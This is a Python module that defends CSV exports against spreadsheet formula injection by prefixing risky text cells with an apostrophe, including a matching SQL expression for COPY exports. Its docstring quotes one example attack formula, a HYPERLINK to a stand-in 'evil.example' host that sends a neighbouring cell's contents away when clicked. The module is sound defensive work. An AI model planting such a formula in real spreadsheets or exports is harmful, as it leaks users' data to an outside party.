"""Text cells a spreadsheet must not run: the one guard every CSV export uses.

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK("http://evil.example/?x="&B2,"Open")`` sends a neighbouring cell
away when clicked); a leading tab or carriage return, spaces before the sign, and the
full-width signs some locales accept do the same. Prompts, model ids, style names, request
ids and error texts come from people and providers, so every *text* cell of every export
gets a leading apostrophe when it starts like that (OWASP's advice; the apostrophe shows
in the sheet, and the value reads as typed). Numbers, dates and empty cells are left alone.

:func:`cell` guards one value, :func:`frame` the text columns of a DataFrame (the report
CSV, and tables Streamlit offers as "Download as CSV"), and :func:`sql` is the same rule as
an SQL expression (DuckDB and PostgreSQL alike) for exports written by ``COPY`` (the ledger),
checked against :func:`cell` by tests/core/test_csvsafe.py.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

# What makes a spreadsheet read a cell as a formula, after any leading whitespace.
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"  # and their full-width forms
_CONTROLS = "\t\r\n"  # a leading control is stripped by some importers, then the sign counts
_RISKY = re.compile(rf"[{re.escape(_CONTROLS)}]|[ \t\r\n\f\v]*[{re.escape(SIGNS)}]")
# The same rule as a regular expression both DuckDB (RE2) and PostgreSQL read alike, anchored
# at the start of the text: the full-width signs written as themselves ("\x{FF1D}" is RE2
# only), the "-" last in its brackets (no escape needed).
_SQL_PATTERN = r"^([\t\r\n]|[ \t\r\n\f\v]*[" + SIGNS.replace("-", "") + "-])"


def risky(text: str) -> bool:
    """True when a spreadsheet could run this text as a formula."""
    return _RISKY.match(text) is not None


def cell(value: Any) -> Any:
    """``value`` as a safe CSV cell: risky text gets a leading ``'``; None becomes ``""``;
    anything else (numbers, dates) is returned as it is."""
    if value is None:
        return ""
    if isinstance(value, str) and risky(value):
        return "'" + value
    return value


def frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are :func:`cell`-guarded (other columns untouched)."""
    out = df.copy()
    for name in out.columns:
        col = out[name]
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype):
            out[name] = col.map(lambda v: "'" + v if isinstance(v, str) and risky(v) else v)
    return out


def rows(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Table rows (dicts) with their text values guarded, for ``st.dataframe`` of a list."""
    return [{k: ("'" + v if isinstance(v, str) and risky(v) else v) for k, v in r.items()}
            for r in records]


def sql(expr: str) -> str:
    """:func:`cell`'s rule as an SQL expression over the text expression ``expr``: ``~`` is a
    partial (search) match on both DuckDB and PostgreSQL, so the pattern carries its ``^``."""
    return (f"CASE WHEN ({expr}) ~ '{_SQL_PATTERN}' "
            f"THEN '''' || {expr} ELSE {expr} END")
